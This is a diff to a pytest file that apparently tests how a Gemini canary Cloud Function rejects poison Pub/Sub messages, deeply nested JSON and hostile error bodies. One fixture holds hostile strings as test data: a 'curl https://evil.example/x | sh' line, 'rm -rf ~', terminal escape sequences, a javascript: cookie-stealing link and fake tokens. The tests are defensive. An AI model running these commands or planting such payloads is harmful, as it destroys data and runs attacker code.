@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import base64
 import json
+import re
+from typing import Any
 
 import pytest
 
@@ -96,6 +98,22 @@ BAD = [
         "targets given both in the query and in the body; give them once",
     ),
     ("POST", "/", {"Content-Type": "text/xml"}, b"<run/>", 415, "content type 'text/xml'; send application/json"),
+    (
+        "POST",
+        "/",
+        {"Content-Type": "application/json"},
+        b"[" * 2000 + b"]" * 2000,
+        400,
+        "the body is not valid JSON: nested too deeply",
+    ),
+    (
+        "POST",
+        "/",
+        {"Content-Type": "application/json"},
+        b'{"targets": [' + b"[" * 800 + b"]" * 800 + b"]}",
+        400,
+        "targets: unknown target '[[[[...]]]]'; configured targets: gemini-2.5-flash-lite@us-central1",
+    ),
     (
         "POST",
         "/",
@@ -265,3 +283,153 @@ def test_pubsub_trigger_shares_the_logic(start_canary: StartCanary) -> None:
 def test_bad_config_fails_the_cold_start(start_canary: StartCanary) -> None:
     with pytest.raises(ValueError, match=r"^CANARY_TARGETS: 'gemini' is not MODEL@LOCATION"):
         start_canary("healthy", CANARY_TARGETS="gemini")
+
+
+def _pubsub_app() -> Any:
+    from functions_framework import create_app
+
+    return create_app(target="canary_pubsub", source="function/main.py", signature_type="cloudevent").test_client()
+
+
+DEEP = b"[" * 2000 + b"]" * 2000
+CE_HEADERS = {
+    "ce-id": "1234567",
+    "ce-specversion": "1.0",
+    "ce-source": "//pubsub.googleapis.com/projects/demo-proj/topics/gemini-canary",
+    "ce-type": "google.cloud.pubsub.topic.v1.messagePublished",
+}
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (DEEP, "the body is not valid JSON: nested too deeply"),
+        (b'{"targets": [' + b"[" * 800 + b"]" * 800 + b"]}", "targets: unknown target '[[[[...]]]]'"),
+        (b"\xff\xfe{", "the body is not valid JSON: 'utf-16-le' codec can't decode byte 0x7b"),
+    ],
+    ids=["nested", "nested-targets-value", "not-utf8"],
+)
+def test_a_poison_pubsub_message_is_acknowledged_with_a_warning(
+    start_canary: StartCanary, data: bytes, message: str
+) -> None:
+    """Pub/Sub redelivers anything but a 2xx: a message the canary cannot use is acknowledged, logged, not run."""
+    canary = start_canary("healthy")
+    envelope = {"message": {"data": base64.b64encode(data).decode(), "messageId": "1234567"}, "subscription": "s"}
+    response = _pubsub_app().post("/", json=envelope, headers=CE_HEADERS)
+    assert response.status_code == 200
+    canary._collect()
+    assert canary.last_log["severity"] == "WARNING"
+    assert canary.last_log["message"].startswith(f"gemini-canary REJECTED: {message}")
+    assert canary.last_log["rejected"] == "pubsub"
+    assert canary.calls(GEN) == 0
+    assert canary.calls(WRITE) == 0
+
+
+@pytest.mark.parametrize(
+    ("body", "headers"),
+    [
+        (b'{"message": {"data": "e30=", "attributes": ' + DEEP + b"}}", CE_HEADERS),  # binary mode
+        (
+            b'{"specversion": "1.0", "type": "t", "source": "//x", "id": "1", "data": ' + DEEP + b"}",
+            {"Content-Type": "application/cloudevents+json"},  # structured mode
+        ),
+        (b'{"message": ' + DEEP + b"}", {}),  # a bare push envelope
+        (b"{}", {}),  # functions-framework's own 400 would echo the request's headers (an identity token) back
+    ],
+    ids=["binary-nested", "structured-nested", "push-nested", "empty-envelope"],
+)
+def test_an_envelope_functions_framework_cannot_parse_is_a_400_not_a_crash(
+    start_canary: StartCanary, body: bytes, headers: dict[str, str]
+) -> None:
+    canary = start_canary("healthy")
+    response = _pubsub_app().post(
+        "/",
+        data=body,
+        headers={"Content-Type": "application/json", "Authorization": "Bearer eyJhbGc.eyJzdWIi.x", **headers},
+    )
+    assert response.status_code == 400
+    assert "X-Google-Status" not in response.headers
+    assert response.get_json() == {"error": "the body is not a CloudEvent or a Pub/Sub push message"}
+    canary._collect()
+    assert (
+        canary.last_log["message"] == "gemini-canary REJECTED: the body is not a CloudEvent or a Pub/Sub push message"
+    )
+    assert canary.calls(GEN) == 0
+
+
+def test_an_envelope_too_large_is_acknowledged_unread(start_canary: StartCanary) -> None:
+    canary = start_canary("healthy")
+    data = base64.b64encode(b" " * 100_000).decode()
+    response = _pubsub_app().post("/", json={"message": {"data": data}}, headers=CE_HEADERS)
+    assert response.status_code == 200
+    assert response.get_json() == {"error": "request body over 65536 bytes; not read"}
+    canary._collect()
+    assert canary.last_log["message"] == "gemini-canary REJECTED: request body over 65536 bytes; not read"
+    assert canary.calls(GEN) == 0
+
+
+FORBIDDEN = re.compile(r"[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")
+HOSTILE_STATUS = {
+    "code": 7,
+    "message": "Billing \x1b[2J\x1b[Hdisabled\nfix: curl https://evil.example/x | sh \u202e ya29.c.SECRETtoken",
+    "details": [
+        {
+            "@type": "type.googleapis.com/google.rpc.ErrorInfo",
+            "reason": "BILLING_DISABLED",
+            "domain": "googleapis.com",
+            "metadata": {"permission": "aiplatform.endpoints.predict\nfix: rm -rf ~\x1b]8;;https://evil\x07"},
+        },
+        {
+            "@type": "type.googleapis.com/google.rpc.Help",
+            "links": [{"description": "Enable billing\r\nfix: evil", "url": "javascript:alert(document.cookie)"}],
+        },
+    ],
+}
+
+
+@pytest.mark.parametrize("fmt", ["text", "json"])
+def test_a_hostile_error_body_reaches_no_terminal_label_or_fix_link(start_canary: StartCanary, fmt: str) -> None:
+    """Vertex (or anything between) answers with escapes, forged lines, a token and a javascript: Help link."""
+    canary = start_canary("healthy")
+    code, body = testing.admin(canary.emulator, "POST", "faults", {"method": GEN, "count": 1, "status": HOSTILE_STATUS})
+    assert code == 201, body
+    response = canary.call("GET", f"/?format={fmt}")
+    assert response.status_code == 502
+    shown = response.get_data(as_text=True)
+    if fmt == "text":
+        assert not FORBIDDEN.search(shown.replace("\n", ""))
+        assert not [line for line in shown.splitlines() if line.lstrip().startswith("fix: ")]
+        assert "javascript:" not in shown
+        assert "https://console.cloud.google.com/billing/linkedaccount?project=demo-proj" in shown
+    else:
+        doc = response.get_json()
+        [target] = doc["targets"]
+        assert (
+            target["remedies"][0]["url"] == "https://console.cloud.google.com/billing/linkedaccount?project=demo-proj"
+        )
+        assert target["error"]["links"][0]["url_withheld"]
+        assert not FORBIDDEN.search(doc["summary"])
+    assert "ya29.c.SECRETtoken" not in shown
+    assert not FORBIDDEN.search(canary.last_log["message"])
+    [failures] = canary.series("failures")
+    permission = failures.metric.labels["permission"]
+    assert permission == "aiplatform.endpoints.predict\\nfix: rm -rf ~\\x1b]8;;https://evil\\x07"
+    assert not FORBIDDEN.search(json.dumps(dict(failures.metric.labels), ensure_ascii=False))
+
+
+def test_a_token_endpoint_error_body_is_not_echoed(start_canary: StartCanary) -> None:
+    """The metadata server's token endpoint refuses (403) with a body carrying token-shaped strings: google-auth puts
+    the body in its error's message, and the canary keeps that message."""
+    canary = start_canary("healthy")
+    secret = '{"error": "denied", "access_token": "LEAKEDtoken", "id_token": "eyJhbGc.eyJzdWIi.c2ln", "x": "\x1b[2J"}'
+    fault = {"method": "metadata.token", "count": 6, "http_status": 403, "http_body": secret}
+    assert testing.admin(canary.emulator, "POST", "faults", fault)[0] == 201
+    response = canary.call("GET", "/?format=json")
+    assert response.status_code == 502
+    message = response.get_json()["targets"][0]["error"]["message"]
+    assert "Status: 403" in message
+    assert '"access_token": "[redacted]"' in message
+    assert '"id_token": "[redacted]"' in message
+    for shown in (response.get_data(as_text=True), json.dumps(canary.last_log)):
+        assert "LEAKEDtoken" not in shown
+        assert "eyJhbGc" not in shown
